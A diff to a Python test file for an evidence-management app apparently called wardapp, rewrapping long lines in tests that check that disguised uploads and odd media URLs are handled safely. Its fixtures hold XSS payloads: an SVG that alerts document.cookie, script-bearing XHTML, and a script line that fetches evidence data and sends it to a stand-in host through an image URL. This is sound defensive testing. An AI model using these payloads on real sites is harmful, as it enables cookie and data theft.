@@ -12,9 +12,11 @@ from wardapp.evidence.models import Evidence, Media
 from wardapp.extensions import db
 from wardapp.media.storage import LocalStorage
 
-SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><script>alert(1)</script></svg>'
+SVG = (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)">'
+       b"<script>alert(1)</script></svg>")
 SCRIPT = b"fetch('/api/v1/evidence').then(r => r.text()).then(t => new Image().src = '//x/?' + t)"
-XHTML = b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'
+XHTML = (b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">'
+         b"<script>alert(1)</script></html>")
 DISGUISES = {
     "HTML named as a photo": ("photo", "anh.jpg", imagefactory.html()),
     "SVG named as a photo": ("photo", "anh.jpg", SVG),
@@ -124,7 +126,8 @@ def test_odd_media_urls_never_reach_the_file_system(seeded, monkeypatch):
                   for k in (m.original_key, m.display_key, m.thumb_key)}
     asked = []
     real = LocalStorage._file
-    monkeypatch.setattr(LocalStorage, "_file", lambda self, key: asked.append(key) or real(self, key))
+    monkeypatch.setattr(LocalStorage, "_file",
+                        lambda self, key: asked.append(key) or real(self, key))
     for url in ODD_URLS:
         answer = officer.client.get(url)
         assert answer.status_code in (301, 308, 400, 404, 405), url
